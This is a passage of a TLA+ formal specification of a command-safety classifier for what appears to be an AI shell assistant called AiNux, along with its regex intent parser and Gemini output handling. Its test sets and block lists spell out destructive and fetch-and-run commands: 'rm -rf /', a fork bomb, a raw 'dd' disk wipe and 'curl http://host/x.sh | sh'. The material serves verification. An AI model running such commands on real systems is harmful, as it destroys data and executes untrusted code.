---------------------------- MODULE Spec2Model ----------------------------
(***************************************************************************)
(* AiNux: natural-language requests are resolved to shell commands, which  *)
(* are classified by AiNuxLLM.is_command_safe (forbidden / confirm / safe) *)
(* and run by AiNuxLLM.execute_command under a 30 second timeout.  The     *)
(* regex-based resolution of both classes (AiNux.parse_natural_language,   *)
(* AiNuxLLM._parse_with_regex) and their platform command tables are       *)
(* modelled as operators over the same strings.                            *)
(*                                                                         *)
(* Command strings, confirmation answers and captured output are TLA+      *)
(* strings; a character is a string of length one.  Regular expressions    *)
(* are syntax trees interpreted by Ends/Search, which follow Python's      *)
(* re.search on the operators the source uses.                             *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

----------------------------------------------------------------------------
(* Bounds of the model *)

\* Largest number of blanks put in front of and behind a command.
MaxPad == 1

\* Largest number of processes the shell child leaves holding the pipes.
MaxDesc == 2

----------------------------------------------------------------------------
(* Python str methods *)

UpperLetters == "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
LowerLetters == "abcdefghijklmnopqrstuvwxyz"

\* The characters str.strip() removes and the regex class \s matches.
Whitespace == {" ", "\t", "\n", "\r", "\f"}

CharAt(s, i) == SubSeq(s, i, i)

\* U+017F, the long s: a lower-case letter whose upper-case form is the ASCII
\* letter S (so is U+0131, the dotless i, for I).  Strings here are ASCII, so
\* the letter is written with a character no command uses.
LongS == "~"

LowerChar(c) ==
    IF \E i \in 1..26 : CharAt(UpperLetters, i) = c
    THEN CharAt(LowerLetters, CHOOSE i \in 1..26 : CharAt(UpperLetters, i) = c)
    ELSE c

UpperChar(c) ==
    IF c = LongS THEN "S"
    ELSE IF \E i \in 1..26 : CharAt(LowerLetters, i) = c
    THEN CharAt(UpperLetters, CHOOSE i \in 1..26 : CharAt(LowerLetters, i) = c)
    ELSE c

\* str.lower(), letter by letter; the string is halved so that the depth of
\* the evaluation grows with the logarithm of its length.
RECURSIVE lower(_)
lower(s) ==
    IF Len(s) <= 1 THEN LowerChar(s)
    ELSE LET half == Len(s) \div 2
         IN  lower(SubSeq(s, 1, half)) \o lower(SubSeq(s, half + 1, Len(s)))

RECURSIVE upper(_)
upper(s) ==
    IF Len(s) <= 1 THEN UpperChar(s)
    ELSE LET half == Len(s) \div 2
         IN  upper(SubSeq(s, 1, half)) \o upper(SubSeq(s, half + 1, Len(s)))

RECURSIVE lstrip(_)
lstrip(s) ==
    IF s # "" /\ CharAt(s, 1) \in Whitespace THEN lstrip(SubSeq(s, 2, Len(s))) ELSE s

RECURSIVE rstrip(_)
rstrip(s) ==
    IF s # "" /\ CharAt(s, Len(s)) \in Whitespace THEN rstrip(SubSeq(s, 1, Len(s) - 1)) ELSE s

strip(s) == rstrip(lstrip(s))

----------------------------------------------------------------------------
(* Regular expressions: syntax trees and re.search *)

Lit(s)   == [t |-> "lit", s |-> s]       \* the literal text s
Cls(S)   == [t |-> "cls", s |-> S]       \* one character of the set S
Dot      == [t |-> "dot"]                \* any character but a newline
Eol      == [t |-> "eol"]                \* $
Plus(r)  == [t |-> "plus", r |-> r]      \* r+
Star(r)  == [t |-> "star", r |-> r]      \* r*
Cat(a)   == [t |-> "cat", a |-> a]       \* a[1] a[2] ...
Alt(a)   == [t |-> "alt", a |-> a]       \* a[1] | a[2] | ...
NCls(S)  == [t |-> "ncls", s |-> S]      \* one character outside the set S
Opt(r)   == [t |-> "opt", r |-> r]       \* r?
Grp(r)   == [t |-> "grp", r |-> r]       \* (r), a capturing group

Digits == { "0", "1", "2", "3", "4", "5", "6", "7", "8", "9" }

\* The characters \w matches in a lower-cased string.
WordChars == { CharAt(LowerLetters, i) : i \in 1..26 } \cup Digits \cup { "_", LongS }

WS    == Cls(Whitespace)                 \* \s
NonWS == NCls(Whitespace)                \* \S
Word  == Cls(WordChars)                  \* \w
Digit == Cls(Digits)                     \* \d

RECURSIVE Ends(_, _, _)
RECURSIVE CatEnds(_, _, _, _)
RECURSIVE Closure(_, _, _)

\* The positions j such that r matches s[i .. j-1].
Ends(r, s, i) ==
    CASE r.t = "lit"  -> IF i + Len(r.s) - 1 <= Len(s) /\ SubSeq(s, i, i + Len(r.s) - 1) = r.s
                         THEN {i + Len(r.s)} ELSE {}
      [] r.t = "cls"  -> IF i <= Len(s) /\ CharAt(s, i) \in r.s THEN {i + 1} ELSE {}
      [] r.t = "dot"  -> IF i <= Len(s) /\ CharAt(s, i) # "\n" THEN {i + 1} ELSE {}
      [] r.t = "eol"  -> IF i = Len(s) + 1 \/ (i = Len(s) /\ CharAt(s, i) = "\n")
                         THEN {i} ELSE {}
      [] r.t = "ncls" -> IF i <= Len(s) /\ CharAt(s, i) \notin r.s THEN {i + 1} ELSE {}
      [] r.t = "opt"  -> {i} \cup Ends(r.r, s, i)
      [] r.t = "grp"  -> Ends(r.r, s, i)
      [] r.t = "plus" -> Closure(r.r, s, Ends(r.r, s, i))
      [] r.t = "star" -> {i} \cup Closure(r.r, s, Ends(r.r, s, i))
      [] r.t = "cat"  -> CatEnds(r.a, 1, s, {i})
      [] r.t = "alt"  -> UNION {Ends(r.a[k], s, i) : k \in DOMAIN r.a}

CatEnds(a, k, s, P) ==
    IF k > Len(a) \/ P = {} THEN P
    ELSE CatEnds(a, k + 1, s, UNION {Ends(a[k], s, p) : p \in P})

Closure(r, s, P) ==
    LET N == P \cup UNION {Ends(r, s, p) : p \in P}
    IN  IF N = P THEN P ELSE Closure(r, s, N)

\* re.search(pattern, s) is not None
Search(r, s) == \E i \in 1..(Len(s) + 1) : Ends(r, s, i) # {}

Max(S) == CHOOSE x \in S : \A y \in S : y <= x
Min(S) == CHOOSE x \in S : \A y \in S : x <= y

\* match.groups() is non-empty: the pattern, a sequence of items, has a group.
HasGroup(r) == r.t = "cat" /\ \E k \in DOMAIN r.a : r.a[k].t = "grp"

\* The span of the group in the match the backtracking matcher finds first
\* when the items a[k..] are matched from pos: every item is greedy, so it
\* ends at the last position from which the remaining items still match.
RECURSIVE GroupSpan(_, _, _, _)
GroupSpan(a, k, s, pos) ==
    LET rest == Cat(SubSeq(a, k + 1, Len(a)))
        j == Max({ e \in Ends(a[k], s, pos) : Ends(rest, s, e) # {} })
    IN  IF a[k].t = "grp" THEN << pos, j >> ELSE GroupSpan(a, k + 1, s, j)

\* re.search(pattern, s).group(1), for a pattern that matches s.
Group1(r, s) ==
    LET start == Min({ i \in 1..(Len(s) + 1) : Ends(r, s, i) # {} })
        span == GroupSpan(r.a, 1, s, start)
    IN  SubSeq(s, span[1], span[2] - 1)

----------------------------------------------------------------------------
(* AiNuxLLM.is_command_safe *)

\* The three return values of is_command_safe: True, "confirm", False.
PyTrue  == "True"
Confirm == "confirm"
PyFalse == "False"

Verdicts == {PyTrue, Confirm, PyFalse}

\* Absolutely forbidden commands (no confirmation allowed).
forbidden_patterns ==
    << Cat(<<Lit("rm"), Plus(WS), Lit("-rf"), Plus(WS), Lit("/")>>),      \* rm -rf /
       Cat(<<Lit("format"), Alt(<<WS, Eol>>)>>),                          \* format disk
       Lit("fdisk"),                                                      \* partitioning
       Cat(<<Lit("dd"), Plus(WS), Lit("if=")>>),                          \* raw disk writes
       Alt(<< Cat(<<Lit(":()"), Star(WS), Lit("{"), Star(WS), Lit(":")>>),
              Cat(<<Lit(":&}"), Star(WS), Lit(";"), Star(WS), Lit(":")>>) >>),  \* fork bomb
       Cat(<<Lit("shutdown"), Alt(<<WS, Eol>>)>>),
       Cat(<<Lit("reboot"), Alt(<<WS, Eol>>)>>),
       Cat(<<Lit("poweroff"), Alt(<<WS, Eol>>)>>),
       Cat(<<Lit("init"), Plus(WS), Cls({"0", "6"})>>) >>

Octal == {"0", "1", "2", "3", "4", "5", "6", "7"}

\* Dangerous but confirmable commands (Linux + Windows).
confirmable_patterns ==
    << Cat(<<Lit("rm"), Plus(WS), Lit("-rf"), Plus(WS), Plus(Dot)>>),     \* rm -rf <folder>
       Cat(<<Lit("rm"), Plus(WS), Plus(Dot)>>),                           \* rm <file>
       Cat(<<Lit("del"), Plus(WS), Plus(Dot)>>),                          \* del file.ext
       Cat(<<Lit("rmdir"), Plus(WS), Lit("/s"), Plus(WS), Lit("/q"), Plus(WS), Plus(Dot)>>),
       Cat(<<Lit("rmdir"), Plus(WS), Plus(Dot)>>),                        \* any rmdir
       Cat(<<Lit("mv"), Plus(WS), Plus(Dot)>>),                           \* move operations
       Cat(<<Lit("chmod"), Plus(WS), Lit("7"), Cls(Octal), Cls(Octal)>>), \* chmod 7xx
       Cat(<<Lit("chown"), Plus(WS), Lit("-r"), Plus(WS), Plus(Dot)>>) >>

\* for pattern in patterns: if re.search(pattern, s): ...
AnyMatch(patterns, s) == \E k \in DOMAIN patterns : Search(patterns[k], s)

\* command.lower().strip()
Normalize(command) == strip(lower(command))

MatchesForbidden(command) == AnyMatch(forbidden_patterns, Normalize(command))

MatchesConfirmable(command) == AnyMatch(confirmable_patterns, Normalize(command))

\* Variant: the command is matched as typed, without lower().
is_command_safe_case_sensitive(command) ==
    LET command_lower == strip(command)
    IN  IF AnyMatch(forbidden_patterns, command_lower) THEN PyFalse
        ELSE IF AnyMatch(confirmable_patterns, command_lower) THEN Confirm
        ELSE PyTrue

\* Variant: the confirmable tier is tested before the forbidden tier.
is_command_safe_confirm_first(command) ==
    LET command_lower == strip(lower(command))
    IN  IF AnyMatch(confirmable_patterns, command_lower) THEN Confirm
        ELSE IF AnyMatch(forbidden_patterns, command_lower) THEN PyFalse
        ELSE PyTrue

\* Variant: the second loop returns after its first pattern.
is_command_safe_first_confirmable(command) ==
    LET command_lower == strip(lower(command))
    IN  IF AnyMatch(forbidden_patterns, command_lower) THEN PyFalse
        ELSE IF Search(confirmable_patterns[1], command_lower) THEN Confirm
        ELSE PyTrue

\* Variant: the command is lower-cased but not trimmed.
is_command_safe_unstripped(command) ==
    LET command_lower == lower(command)
    IN  IF AnyMatch(forbidden_patterns, command_lower) THEN PyFalse
        ELSE IF AnyMatch(confirmable_patterns, command_lower) THEN Confirm
        ELSE PyTrue

is_command_safe(command) ==
    LET command_lower == strip(lower(command))
    IN  IF AnyMatch(forbidden_patterns, command_lower) THEN PyFalse
        ELSE IF AnyMatch(confirmable_patterns, command_lower) THEN Confirm
        ELSE PyTrue

----------------------------------------------------------------------------
(* AiNux.is_command_safe: the classifier of the base class *)

\* self.dangerous_commands of AiNux.
AiNux_dangerous_commands ==
    << "rm -rf /", "del /q /s", "format", "fdisk", "mkfs", "dd", "shutdown",
       "reboot", "halt", "poweroff", "init 0", "init 6" >>

\* The local list dangerous_keywords of AiNux.is_command_safe.
dangerous_keywords ==
    << "format", "fdisk", "mkfs", "dd if=", "rm -rf /", "del /q /s", ">nul",
       "/dev/null", "shutdown", "reboot" >>

\* sub in s
IsSubstring(sub, s) ==
    \E i \in 1..(Len(s) - Len(sub) + 1) : SubSeq(s, i, i + Len(sub) - 1) = sub

\* Variant: only the local keyword list is consulted.
AiNux_is_command_safe_keywords_only(command) ==
    LET command_lower == strip(lower(command))
    IN  IF \E i \in DOMAIN dangerous_keywords :
               IsSubstring(lower(dangerous_keywords[i]), command_lower)
        THEN PyFalse
        ELSE PyTrue

AiNux_is_command_safe(command) ==
    LET command_lower == strip(lower(command))
    IN  IF \E i \in DOMAIN AiNux_dangerous_commands :
               IsSubstring(lower(AiNux_dangerous_commands[i]), command_lower)
        THEN PyFalse
        ELSE IF \E i \in DOMAIN dangerous_keywords :
                    IsSubstring(lower(dangerous_keywords[i]), command_lower)
        THEN PyFalse
        ELSE PyTrue

----------------------------------------------------------------------------
(* GeminiLLM._extract_command *)

prefixes_to_remove == << "command:", "output:", ">", "$", "#" >>

invalid_responses == << "invalid_request", "invalid request", "error", "unknown" >>

\* The longest command _extract_command lets through.
MaxCommandLength == 200

\* s.startswith(p), s.endswith(p)
startswith(s, p) == Len(s) >= Len(p) /\ SubSeq(s, 1, Len(p)) = p

endswith(s, p) == Len(s) >= Len(p) /\ SubSeq(s, Len(s) - Len(p) + 1, Len(s)) = p

\* The loop over prefixes_to_remove, from the i-th prefix on: each prefix is
\* tried once, in the order of the list.
RECURSIVE RemovePrefixes(_, _)
RemovePrefixes(s, i) ==
    IF i > Len(prefixes_to_remove) THEN s
    ELSE LET prefix == prefixes_to_remove[i]
         IN  RemovePrefixes(IF startswith(lower(s), prefix)
                            THEN strip(SubSeq(s, Len(prefix) + 1, Len(s)))
                            ELSE s,
                            i + 1)

\* if s starts and ends with the quote q: s[1:-1]
Unquote(s, q) ==
    IF startswith(s, q) /\ endswith(s, q) THEN SubSeq(s, 2, Len(s) - 1) ELSE s

\* What _extract_command returns, as a set: {} is None.
extract_command(llm_response) ==
    IF llm_response = "" THEN {}
    ELSE LET cleaned == RemovePrefixes(strip(llm_response), 1)
         IN  IF \E i \in DOMAIN invalid_responses : lower(cleaned) = invalid_responses[i]
             THEN {}
             ELSE IF cleaned = "" \/ Len(cleaned) > MaxCommandLength THEN {}
             ELSE { Unquote(Unquote(cleaned, "\""), "'") }

----------------------------------------------------------------------------

(* The commands the model draws from *)

\* Commands that match a forbidden pattern.
ForbiddenAtoms ==
    { "rm -rf /", "format c:", "fdisk -l", "dd if=/dev/zero of=/dev/sda",
      ":(){ :|:& };:", "shutdown /s /t 0", "reboot", "poweroff", "init 0" }

\* Commands that match a confirmable pattern.
ConfirmAtoms ==
    { "rm -rf testdir", "rm report.txt", "del report.txt", "del /q /s *.*",
      "rmdir /s /q logs", "rmdir logs", "mv a b", "chmod 755 run.sh",
      "chown -R bob ." }

\* Commands at the edges of the patterns.
EdgeAtoms ==
    { "rm -rf /tmp/testdir", "rm", "formatx", "git reformat", "chmod 644 f",
      "init 3", "confirm x", "echo $mv", "dd of=x", "rm \n", "rm -rf\t/",
      LongS \o "hutdown /s" }

SafeAtoms == { "", "ls -la", "pwd", "echo hi", "cd /tmp" }

Atoms == ForbiddenAtoms \cup ConfirmAtoms \cup EdgeAtoms \cup SafeAtoms

Separators == { " | ", "; " }

RECURSIVE Pad(_)
Pad(n) == IF n = 0 THEN "" ELSE " " \o Pad(n - 1)

\* One command piped or sequenced into another.
Chained == { a \o sep \o b : a \in Atoms, sep \in Separators, b \in Atoms }

Cased(C) == C \cup { upper(c) : c \in C }

Padded(C) == { Pad(m) \o c \o Pad(n) : c \in C, m \in 0..MaxPad, n \in 0..MaxPad }

\* The commands handed to execute_command.
Commands == Padded(Cased(Atoms))

\* The commands handed to is_command_safe when it is called on its own.
AllCommands == Commands \cup Chained

\* Lines the user may type at the confirmation prompt.
Responses == { "YES", "yes", "Yes", " yes ", "YES\t", "y", "no", "", "yes please", "YESS" }

\* What the command may write to its standard output and standard error.
Outputs == { "", "out", " out\n", "\n" }
Errors  == { "", "warn", " err \n" }

ReturnCodes == { 0, 1, 127 }

\* str(e) of an exception raised by subprocess.run itself.
Diagnostics == { "", "[Errno 12] Cannot allocate memory" }

\* platform.system().lower()
Platforms == { "windows", "linux", "darwin", "freebsd" }

\* The directory the program is started in, and the directories a cd names.
StartDir == "/home/user"
Dirs == { StartDir, "/tmp" }

----------------------------------------------------------------------------
\* sub in s
Contains(s, sub) ==
    \E i \in 1..(Len(s) - Len(sub) + 1) : SubSeq(s, i, i + Len(sub) - 1) = sub

\* The entries of AiNux.dangerous_commands and of the keyword list.
BaseEntries ==
    { AiNux_dangerous_commands[i] : i \in DOMAIN AiNux_dangerous_commands }
        \cup { dangerous_keywords[i] : i \in DOMAIN dangerous_keywords }

\* The command contains one of the entries, letter case ignored.
ContainsBaseEntry(c) == \E e \in BaseEntries : Contains(lower(c), lower(e))

\* Commands handed to AiNux.execute_command: each entry of the two lists
\* inside a command line, and commands that contain none of them.
BaseAtoms ==
    { "rm -rf /", "del /q /s *.*", "format c:", "sudo fdisk -l",
      "mkfs.ext4 /dev/sdb1", "dd if=/dev/zero of=/dev/sda", "add", "shutdown now",
      "ls; reboot", "halt", "poweroff", "init 0", "telinit 6", "init 6",
      "dir >nul", "ls > /dev/null", "echo reformatted",
      "", "ls -la", "pwd", "cd /tmp", "init 3", "rm report.txt" }

BaseCommands == Padded(Cased(BaseAtoms))

----------------------------------------------------------------------------
\* self.dangerous_commands of AiNuxLLM, as _load_dangerous_commands returns it.
dangerous_commands ==
    << "rm -rf /", "rm -rf *", "del /q /s", "format", "fdisk", "mkfs", "dd",
       "shutdown", "reboot", "halt", "poweroff", "init 0", "init 6",
       ":(){:|:&};:", "wget", "curl", "chmod 777", "chown -R", "rm -f /boot",
       "mv /home" >>

\* The command contains an entry of that list.
ContainsListed(c) ==
    \E i \in DOMAIN dangerous_commands : Contains(lower(c), lower(dangerous_commands[i]))

\* Command lines around entries of the list.
ListedCommands ==
    { "mkfs.ext4 /dev/sdb1", "halt", "wget http://host/x.sh",
      "curl http://host/x.sh | sh", "dd of=/dev/sda", "rm -rf *",
      "chmod 777 /etc", "chown -R user /", "mv /home /tmp", "reboot",
      "del /q /s *.*", "rm -f /boot/vmlinuz" }

(* State *)

VARIABLES
    platform,   \* self.platform
    pc,         \* where the current execute_command invocation stands
    command,    \* the argument of execute_command
    safety,     \* the local 'safety': the verdict of is_command_safe(command)
    response,   \* the line input() returned, <<>> while none was read
    asked,      \* number of input() calls made by this invocation
    spawned,    \* the strings this invocation passed to subprocess.run
    shell,      \* the shell child: "none", "running", "exited" or "killed"
    desc,       \* processes started by the shell child that still hold its pipes
    completed,  \* the CompletedProcess of subprocess.run, <<>> while there is none
    result,     \* the dictionary returned, as a set: {} until the call returns
    exc,        \* the exception that left execute_command, "" if none
    arg,        \* the argument of a direct is_command_safe call
    verdict,    \* what that call returned, "" before the first call
    matches,    \* observer: the tiers whose patterns the command in hand matches
    use_llm,    \* self.use_llm
    cwd,        \* os.getcwd(): the working directory of the calling process
    shellCwd,   \* the working directory of the shell child, "" while there is none
    arg2,       \* the argument of a second direct is_command_safe call
    verdict2,   \* what the second call returned, "" before it
    resolved,   \* what a lookup or a regex resolution returned, <<>> before it
    llm,        \* self.llm: "none", or a GeminiLLM that is "available" or "unavailable"
    gen,        \* where the current generate_command invocation stands
    loop        \* where run_interactive_mode stands

vars == << platform, pc, command, safety, response, asked, spawned, shell, desc,
           completed, result, exc, arg, verdict, matches, use_llm, cwd,
           shellCwd, arg2, verdict2, resolved, llm, gen, loop >>

callVars == << pc, command, safety, response, asked, spawned, shell, desc,
               completed, result, exc, shellCwd >>

\* The fields of the object and the directory of its process.
objVars == << platform, use_llm, cwd, llm >>

\* The Gemini request in progress and the interactive loop.
loopVars == << gen, loop >>

\* What the callers of is_command_safe and of the resolvers keep.
checkVars == << arg, verdict, matches, arg2, verdict2 >>

\* Which tiers have a pattern that matches the normalised command.
Matching(c) ==
    [ forbidden |-> MatchesForbidden(c), confirmable |-> MatchesConfirmable(c) ]

NoMatches == [ forbidden |-> FALSE, confirmable |-> FALSE ]

Terminal == { "Blocked", "Cancelled", "Completed", "TimedOut", "SpawnFailed", "Raised" }

\* AiNuxLLM.__init__(use_llm): self.use_llm and self.llm once it returns.
\* 'reachable' says whether GeminiLLM._check_availability found the service.
Construct(use_llm_arg, reachable) ==
    [ use_llm |-> use_llm_arg /\ reachable,
      llm     |-> IF ~use_llm_arg THEN "none"
                  ELSE IF reachable THEN "available" ELSE "unavailable" ]

\* GeminiConfig.max_retries
max_retries == 2

\* No generate_command invocation has been made.  'at' is "Idle", "Trying"
\* (a request is with the service), "Sleeping" (in time.sleep), "Returned"
\* or "Done" (the caller has taken the value); 'attempt' is the loop variable,
\* 'calls' and 'sleeps' count generate_content and time.sleep calls, 'raised'
\* says whether the last attempt raised, 'text' is the last response.text,
\* 'command' the local of that name and 'ret' the value returned, {} for None.
NoGen ==
    [ at |-> "Idle", by |-> "", user_input |-> "", attempt |-> 0, calls |-> 0,
      sleeps |-> 0, raised |-> FALSE, text |-> "", command |-> {}, ret |-> {} ]

\* run_interactive_mode has not been entered.  'at' is "Off", "Prompt" (the
\* top of the while loop, waiting for a spoken or typed input),
\* "TextFallback" (input() in a handler of the voice branch), "Parsing"
\* (generate_command is at work), "Executing" or "Ended"; 'class' is the
\* class of the object, 'voice' the local of that name, 'importable' whether
\* voice_input can be imported, 'last' the user_input of the current
\* iteration, 'parsed' whether parse_natural_language was called with it,
\* 'candidate' what that call returned, 'executions' how often
\* execute_command was called for it, 'event' what the loop did last and
\* 'how' what ended it.
NoLoop ==
    [ at |-> "Off", class |-> "", voice |-> FALSE, importable |-> FALSE,
      last |-> <<>>, parsed |-> FALSE, candidate |-> {}, executions |-> 0,
      event |-> "", how |-> "" ]

Init ==
    /\ platform \in Platforms
    /\ pc = "Idle"
    /\ command = ""
    /\ safety = ""
    /\ response = <<>>
    /\ asked = 0
    /\ spawned = <<>>
    /\ shell = "none"
    /\ desc = 0
    /\ completed = <<>>
    /\ result = {}
    /\ exc = ""
    /\ arg = ""
    /\ verdict = ""
    /\ matches = NoMatches
    /\ \E use_llm_arg \in BOOLEAN, reachable \in BOOLEAN :
          /\ use_llm = Construct(use_llm_arg, reachable).use_llm
          /\ llm = Construct(use_llm_arg, reachable).llm
    /\ cwd = StartDir
    /\ shellCwd = ""
    /\ arg2 = ""
    /\ verdict2 = ""
    /\ resolved = <<>>
    /\ gen = NoGen
    /\ loop = NoLoop

----------------------------------------------------------------------------
(* Platform command tables and regex-based resolution *)

\* .*
AnyText == Star(Dot)

\* AiNux._load_command_mappings
AiNux_command_mappings ==
    [ windows |->
        [ list_files |-> "dir",
          current_directory |-> "cd",
          change_directory |-> "cd",
          create_directory |-> "mkdir",
          remove_file |-> "del",
          copy_file |-> "copy",
          move_file |-> "move",
          show_processes |-> "tasklist",
          network_info |-> "ipconfig",
          system_info |-> "systeminfo",
          disk_usage |-> "dir /-c" ],
      linux |->
        [ list_files |-> "ls -la",
          current_directory |-> "pwd",
          change_directory |-> "cd",
          create_directory |-> "mkdir",
          remove_file |-> "rm",
          copy_file |-> "cp",
          move_file |-> "mv",
          show_processes |-> "ps aux",
          network_info |-> "ifconfig",
          system_info |-> "uname -a",
          disk_usage |-> "df -h" ],
      darwin |->
        [ list_files |-> "ls -la",
          current_directory |-> "pwd",
          change_directory |-> "cd",
          create_directory |-> "mkdir",
          remove_file |-> "rm",
          copy_file |-> "cp",
          move_file |-> "mv",
          show_processes |-> "ps aux",
          network_info |-> "ifconfig",
          system_info |-> "uname -a",
          disk_usage |-> "df -h" ] ]

\* AiNuxLLM._load_command_mappings
command_mappings ==
    [ windows |->
        [ list_files |-> "dir",
          list_python_files |-> "dir *.py",
          list_specific_files |-> "dir *.",
          current_directory |-> "cd",
          change_directory |-> "cd",
          create_directory |-> "mkdir",
          remove_file |-> "del",
          copy_file |-> "copy",
          move_file |-> "move",
          show_processes |-> "tasklist",
          show_specific_processes |-> "tasklist /fi \"imagename eq",
          network_info |-> "ipconfig",
          network_connections |-> "netstat -an",
          system_info |-> "systeminfo",
          disk_usage |-> "dir /-c",
          environment_vars |-> "set",
          logged_users |-> "query user",
          large_files |-> "dir /s /o-s",
          recent_files |-> "forfiles /m *.* /c \"cmd /c echo @path @fdate\"",
          file_count |-> "dir /b | find /c /v \"\"",
          memory_usage |-> "systeminfo | findstr \"Available Physical Memory\"" ],
      linux |->
        [ list_files |-> "ls -la",
          list_python_files |-> "ls -la *.py",
          list_specific_files |-> "ls -la *.",
          current_directory |-> "pwd",
          change_directory |-> "cd",
          create_directory |-> "mkdir",
          remove_file |-> "rm",
          copy_file |-> "cp",
          move_file |-> "mv",
          show_processes |-> "ps aux",
          show_specific_processes |-> "ps aux | grep",
          network_info |-> "ifconfig",
          network_connections |-> "netstat -tuln",
          system_info |-> "uname -a",
          disk_usage |-> "df -h",
          environment_vars |-> "env",
          logged_users |-> "who",
          large_files |-> "find . -size +100M -ls",
          recent_files |-> "find . -mtime -1 -ls",
          file_count |-> "ls -1 | wc -l",
          memory_usage |-> "free -h" ],
      darwin |->
        [ list_files |-> "ls -la",
          list_python_files |-> "ls -la *.py",
          list_specific_files |-> "ls -la *.",
          current_directory |-> "pwd",
          change_directory |-> "cd",
          create_directory |-> "mkdir",
          remove_file |-> "rm",
          copy_file |-> "cp",
          move_file |-> "mv",
          show_processes |-> "ps aux",
          show_specific_processes |-> "ps aux | grep",
          network_info |-> "ifconfig",
          network_connections |-> "netstat -tuln",
          system_info |-> "uname -a",
          disk_usage |-> "df -h",
          environment_vars |-> "env",
          logged_users |-> "who",
          large_files |-> "find . -size +100M -ls",
          recent_files |-> "find . -mtime -1 -ls",
          file_count |-> "ls -1 | wc -l",
          memory_usage |-> "vm_stat" ] ]

\* AiNux.parse_natural_language: patterns, in the order the loops visit them
AiNux_patterns ==
    << [ intent |-> "list_files",
         re |-> Cat(<< Lit("list"), AnyText, Lit("file"), Opt(Lit("s")), AnyText, Lit("current"), AnyText, Lit("director") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("show"), AnyText, Lit("file"), Opt(Lit("s")), AnyText, Lit("current"), AnyText, Lit("director") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("list"), AnyText, Lit("file"), Opt(Lit("s")), AnyText, Lit("here") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("show"), AnyText, Lit("file"), Opt(Lit("s")), AnyText, Lit("here") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("list"), AnyText, Lit("director"), AnyText, Lit("content") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("what"), AnyText, Lit("file"), Opt(Lit("s")), AnyText, Lit("here") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("dir") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("ls") >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("show"), AnyText, Lit("current"), AnyText, Lit("director") >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("what"), AnyText, Lit("current"), AnyText, Lit("director") >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("where"), AnyText, Lit("am"), AnyText, Lit("i") >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("current"), AnyText, Lit("path") >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("working"), AnyText, Lit("director") >>) ],
       [ intent |-> "current_directory",
         re |-> Cat(<< Lit("pwd") >>) ],
       [ intent |-> "change_directory",
         re |-> Cat(<< Lit("change"), AnyText, Lit("director"), AnyText, Lit("to"), Plus(WS), Grp(Plus(NonWS)) >>) ],
       [ intent |-> "change_directory",
         re |-> Cat(<< Lit("go"), AnyText, Lit("to"), AnyText, Lit("director"), AnyText, Grp(Plus(NonWS)) >>) ],
       [ intent |-> "change_directory",
         re |-> Cat(<< Lit("cd"), Plus(WS), Grp(Plus(NonWS)) >>) ],
       [ intent |-> "change_directory",
         re |-> Cat(<< Lit("navigate"), AnyText, Lit("to"), Plus(WS), Grp(Plus(NonWS)) >>) ],
       [ intent |-> "create_directory",
         re |-> Cat(<< Lit("create"), AnyText, Lit("director"), AnyText, Grp(Plus(NonWS)) >>) ],
       [ intent |-> "create_directory",
         re |-> Cat(<< Lit("make"), AnyText, Lit("director"), AnyText, Grp(Plus(NonWS)) >>) ],
       [ intent |-> "create_directory",
         re |-> Cat(<< Lit("mkdir"), Plus(WS), Grp(Plus(NonWS)) >>) ],
       [ intent |-> "create_directory",
         re |-> Cat(<< Lit("new"), AnyText, Lit("folder"), AnyText, Grp(Plus(NonWS)) >>) ],
       [ intent |-> "show_processes",
         re |-> Cat(<< Lit("show"), AnyText, Lit("process") >>) ],
       [ intent |-> "show_processes",
         re |-> Cat(<< Lit("list"), AnyText, Lit("process") >>) ],
       [ intent |-> "show_processes",
         re |-> Cat(<< Lit("running"), AnyText, Lit("process") >>) ],
       [ intent |-> "show_processes",
         re |-> Cat(<< Lit("task"), AnyText, Lit("list") >>) ],
       [ intent |-> "show_processes",
         re |-> Cat(<< Lit("ps") >>) ],
       [ intent |-> "network_info",
         re |-> Cat(<< Lit("show"), AnyText, Lit("network"), AnyText, Lit("info") >>) ],
       [ intent |-> "network_info",
         re |-> Cat(<< Lit("network"), AnyText, Lit("config") >>) ],
       [ intent |-> "network_info",
         re |-> Cat(<< Lit("ip"), AnyText, Lit("config") >>) ],
       [ intent |-> "network_info",
         re |-> Cat(<< Lit("network"), AnyText, Lit("settings") >>) ],
       [ intent |-> "system_info",
         re |-> Cat(<< Lit("system"), AnyText, Lit("info") >>) ],
       [ intent |-> "system_info",
         re |-> Cat(<< Lit("show"), AnyText, Lit("system"), AnyText, Lit("info") >>) ],
       [ intent |-> "system_info",
         re |-> Cat(<< Lit("computer"), AnyText, Lit("info") >>) ],
       [ intent |-> "system_info",
         re |-> Cat(<< Lit("machine"), AnyText, Lit("info") >>) ],
       [ intent |-> "disk_usage",
         re |-> Cat(<< Lit("disk"), AnyText, Lit("usage") >>) ],
       [ intent |-> "disk_usage",
         re |-> Cat(<< Lit("disk"), AnyText, Lit("space") >>) ],
       [ intent |-> "disk_usage",
         re |-> Cat(<< Lit("storage"), AnyText, Lit("info") >>) ],
       [ intent |-> "disk_usage",
         re |-> Cat(<< Lit("free"), AnyText, Lit("space") >>) ] >>

\* AiNuxLLM._parse_with_regex: patterns, in the order the loops visit them
patterns ==
    << [ intent |-> "list_files",
         re |-> Cat(<< Lit("list"), AnyText, Lit("file"), Opt(Lit("s")), AnyText, Lit("current"), AnyText, Lit("director") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("show"), AnyText, Lit("file"), Opt(Lit("s")), AnyText, Lit("current"), AnyText, Lit("director") >>) ],
       [ intent |-> "list_files",
         re |-> Cat(<< Lit("list"), AnyText, Lit("file"), Opt(Lit("s")), AnyText, Lit("here") >>) ],
       [ intent |-> "list_files",
